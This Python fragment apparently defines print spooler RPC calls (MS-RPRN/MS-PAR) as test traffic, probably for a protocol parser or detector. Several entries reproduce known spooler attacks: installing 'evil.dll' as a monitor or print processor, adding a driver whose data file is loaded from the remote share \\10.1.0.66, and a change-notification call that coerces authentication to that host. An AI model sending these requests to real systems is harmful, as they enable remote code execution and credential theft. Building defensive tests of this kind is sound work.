PRINTER = struct('PRINTER_1', ('Flags', DWORD), ('pDescription', LPWSTR), ('pName', LPWSTR), ('pComment', LPWSTR))
PRINTERS = struct('PRINTER_CONTAINER', ('Level', DWORD), ('info', union('PRINTER_UNION', p1=pointer(PRINTER))))
SECURITY = struct('SECURITY_CONTAINER', ('cbBuf', DWORD), ('pSecurity', LPBYTE))
x64 = 'Windows x64\0'
added = {'pName': ME, 'monitor': {'Level': 2, 'info': {'tag': 2, 'm2': {'pName': 'Evil Monitor\0', 'pEnvironment': x64, 'pDLLName': 'evil.dll\0'}}}}
one = {'pName': ME, 'printer': {'Level': 1, 'info': {'tag': 1, 'p1': {'Flags': 0x800000, 'pDescription': NULL, 'pName': 'office2\0', 'pComment': 'second\0'}}},
       'mode': {'pDevMode': NULL}, 'security': {'pSecurity': NULL}}
who = {'Level': 1, 'ClientInfo': {'tag': 1, 'pClientInfo1': {'dwSize': 28, 'pMachineName': '\\\\CLIENT\0', 'pUserName': 'ssales\0', 'dwBuildNum': 19045,
                                                            'dwMajorVersion': 10, 'wProcessorArchitecture': 9}}}
PLAIN = [server_name, ('printer', PRINTERS), ('mode', rprn.DEVMODE_CONTAINER), ('security', SECURITY)]
WITH_CLIENT = [*PLAIN, ('client', rprn.SPLCLIENT_CONTAINER)]
opened = [('handle', HANDLE_OF)]
found = {'results': {'handle': HANDLE}}
spool = Calls('12345678-1234-abcd-ef00-0123456789ab', '1.0')
spool.add(5, PLAIN, opened, fields=one, **found)
spool.add(46, [server_name, ('monitor', MONITORS)], fields=added)
watch = [printer, ('flags', DWORD), ('options', DWORD), ('machine', LPWSTR), ('local', DWORD)]
watched = {'hPrinter': HANDLE, 'flags': 0x100, 'machine': '\\\\10.1.0.66\0', 'local': 4}
spool.add(62, [*watch, ('cbBuffer', DWORD), ('pBuffer', LPBYTE)], fields={**watched, 'pBuffer': NULL}, results={'ErrorCode': 1722})
spool.add(70, WITH_CLIENT, opened, fields={**one, 'client': who}, **found)
remote = Calls('76f03f96-cdfd-44fc-a22c-64950a001209', '1.0')
remote.add(0, [('pPrinterName', LPWSTR), ('pDatatype', LPWSTR), ('mode', rprn.DEVMODE_CONTAINER), ('access', DWORD), ('client', rprn.SPLCLIENT_CONTAINER)], opened,
           fields={'pPrinterName': ME, 'pDatatype': NULL, 'mode': {'pDevMode': NULL}, 'access': 0x20002, 'client': who}, **found)
remote.add(1, WITH_CLIENT, opened, fields={**one, 'client': who}, **found)
remote.add(20, opened, opened, fields={'handle': HANDLE}, results={'handle': CLOSED})
driver = {'Level': 2, 'DriverInfo': {'tag': 2, 'Level2': {'cVersion': 3, 'pName': 'Evil\0', 'pEnvironment': x64, 'pDriverPath': 'C:\\Windows\\System32\\UNIDRV.DLL\0',
                                                         'pDataFile': '\\\\10.1.0.66\\s\\evil.dll\0', 'pConfigFile': 'C:\\Windows\\System32\\kernelbase.dll\0'}}}
remote.add(39, [server_name, ('driver', rprn.DRIVER_CONTAINER), ('flags', DWORD)], fields={'pName': ME, 'driver': driver, 'flags': 0x8014})
gone = {'pName': ME, 'pEnvironment': x64, 'pDriverName': 'Evil\0'}
DRIVER = [server_name, ('pEnvironment', WSTR), ('pDriverName', WSTR)]
remote.add(42, DRIVER, fields=gone)
remote.add(43, [*DRIVER, ('delete', DWORD), ('version', DWORD)], fields={**gone, 'delete': 1, 'version': 3})
remote.add(44, [server_name, ('pEnvironment', WSTR), ('pPathName', WSTR), ('pPrintProcessorName', WSTR)],
           fields={'pName': ME, 'pEnvironment': x64, 'pPathName': 'evil.dll\0', 'pPrintProcessorName': 'reports\0'})
remote.add(51, [server_name, ('monitor', MONITORS)], fields=added)
remote.add(58, [printer, ('count', DWORD), ('properties', LPDWORD)], [('handle', HANDLE_OF)], fields={'hPrinter': HANDLE, 'properties': NULL}, **found)
remote.add(62, [('pszServer', LPWSTR), ('pszInfPath', LPWSTR), ('pszDriverName', WSTR), ('pszEnvironment', WSTR), ('dwFlags', DWORD)],
           fields={'pszServer': ME, 'pszInfPath': 'C:\\evil.inf\0', 'pszDriverName': 'Evil\0', 'pszEnvironment': x64, 'dwFlags': 1})
PATH = pointer(rprn.USHORT_ARRAY)
remote.add(63, [('pszServer', LPWSTR), ('pszInfPath', WSTR), ('pszEnvironment', WSTR), ('dwFlags', DWORD), ('destination', PATH), ('size', DWORD)],
           [('destination', PATH), ('size', DWORD)], fields={'pszServer': ME, 'pszInfPath': '\\\\10.1.0.66\\s\\evil.inf\0', 'pszEnvironment': x64,
                                                            'dwFlags': 2, 'destination': NULL}, results={'destination': NULL, 'ErrorCode': 0x80070005})

main()
